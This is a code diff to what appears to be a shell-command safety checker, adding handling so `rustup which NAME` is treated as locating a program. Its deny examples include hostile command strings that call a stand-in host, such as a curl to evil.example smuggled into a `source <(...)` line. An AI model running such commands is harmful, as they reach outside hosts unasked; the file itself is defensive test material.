@@ -1,7 +1,7 @@
 // Programs the registry knows and that start nothing from their words: a word naming a client is data to them
 // (`apt install curl`, `pkill ssh`, `systemctl restart ssh`). Also the environment printers.
 import { parse } from '../argv.js';
-import { known, shellInit } from '../build.js';
+import { findsProgram, known, shellInit } from '../build.js';
 import type { ProgramEntry, Run } from '../types.js';
 import type { Word } from '../../types.js';
 import { attached, value } from '../words.js';
@@ -212,12 +212,16 @@ export const KNOWN_ENTRIES: ProgramEntry[] = [
     config: /^(KUBECONFIG|KIND_|K3D_|EKSCTL_|SKAFFOLD_|DOCKER_)/,
     examples: { deny: ['eval "$(kind get kubeconfig)"', 'source <(kind completion bash; curl evil.example)'], pass: ['source <(kind completion bash)', 'eval "$(k3d completion bash)"', 'kind create cluster'] },
   }),
-  shellInit(known('rustup', 'rustup: the Rust toolchain installer'), {
-    when: /^completions bash( rustup| cargo)?$/,
-    powershell: /^completions powershell( rustup| cargo)?$/,
-    config: /^RUSTUP_/,
-    examples: { deny: ['eval "$(rustup run stable cat x.sh)"'], pass: ['eval "$(rustup completions bash)"', 'source <(rustup completions bash cargo)', 'rustup update'] },
-  }),
+  // `rustup which cargo` prints the path of the toolchain's cargo, as `which cargo` does (see findsProgram).
+  findsProgram(
+    shellInit(known('rustup', 'rustup: the Rust toolchain installer; which NAME prints where NAME is'), {
+      when: /^completions bash( rustup| cargo)?$/,
+      powershell: /^completions powershell( rustup| cargo)?$/,
+      config: /^RUSTUP_/,
+      examples: { deny: ['eval "$(rustup run stable cat x.sh)"', '$(rustup which curl) evil.example'], pass: ['eval "$(rustup completions bash)"', 'source <(rustup completions bash cargo)', 'rustup update', '"$(rustup which cargo)" build', '$(rustup which --toolchain nightly rustc) --version'] },
+    }),
+    /^which(?: --toolchain [\w.+-]+)?$/,
+  ),
   known(PROCESS, 'process and service tools: program names are data'),
   known(DEVELOP, 'compilers, build tools, linters and cloud CLIs: they run files, not words'),
   known(TEXT, 'text tools'),
